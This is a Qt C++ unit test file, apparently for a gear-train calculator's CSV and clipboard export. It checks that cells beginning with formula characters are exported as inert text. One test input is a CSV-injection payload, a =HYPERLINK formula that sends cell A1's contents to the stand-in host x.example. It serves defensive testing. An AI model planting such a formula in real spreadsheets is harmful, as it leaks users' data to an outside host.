    void spreadsheet_cells_never_run_data() {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QString>("exported");
        const QString link = R"(=HYPERLINK("http://x.example/?"&A1,"клик"))";
        QTest::newRow("formula") << link << "'" + link;
        QTest::newRow("plus") << "+1+1"
                              << "'+1+1";
        QTest::newRow("minus") << "-2+3"
                               << "'-2+3";
        QTest::newRow("at") << "@SUM(A1)"
                            << "'@SUM(A1)";
        QTest::newRow("tab") << "\t=1"
                             << "'\t=1";
        QTest::newRow("carriage return") << "\r=1"
                                         << "'\r=1";
        QTest::newRow("negative number") << "-12,5"
                                         << "-12,5";
        QTest::newRow("signed distance") << "+0,0571"
                                         << "+0,0571";
        QTest::newRow("exponent") << "-1,5E-5"
                                  << "-1,5E-5";
        QTest::newRow("point") << "-3.25"
                               << "-3.25";
        QTest::newRow("text in the middle") << "Fz = 160"
                                            << "Fz = 160";
        QTest::newRow("lone minus") << "-"
                                    << "'-";
        QTest::newRow("empty") << ""
                               << "";
    }
    void spreadsheet_cells_never_run() {
        QFETCH(QString, cell);
        QTEST(spreadsheetCell(cell), "exported");
    }

    // A pair from a file whose Z1 is a formula: the export and the copy carry
    // it as text.
    void formula_from_a_file_is_exported_as_text() {
        const QString link = R"(=HYPERLINK("http://x.example/?"&A1,"клик"))";
        const TrainTables t =
            trainTables(buildTrain({{link, "20", "42", "0"}}, false, 1), {Unit::Hertz, 1});
        const QList<QByteArray> lines = trainCsv(t).split('\n');
        QVERIFY2(lines[7].startsWith("1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"),
                 lines[7].constData());
        QVERIFY(trainTabText(t).split('\n')[7].startsWith("1\t'=HYPERLINK(\"http"));
    }

    void tab_text_for_the_clipboard() {
        const TrainTables t =
            trainTables(buildTrain({{"8", "20", "42", "0"}}, false, 1000), {Unit::PerMinute, 1});
        const QStringList lines = trainTabText(t).split(QLatin1Char('\n'));
        QCOMPARE(lines[3], QStringLiteral("Единицы\tоб/мин\tCPM"));
        QCOMPARE(lines[7], QStringLiteral("1\t8\t42\t5,25\t1200\t228,571\t9600\t2\t4800\t57,1429\t"
                                          "1,05\tнет\t"));
        QCOMPARE(lines[11], QStringLiteral("2\t\t228,571\tвыходной: колесо 2 пары 1"));
    }
};

QTEST_GUILESS_MAIN(MachineTrainTest)
#include "tst_machine_train.moc"
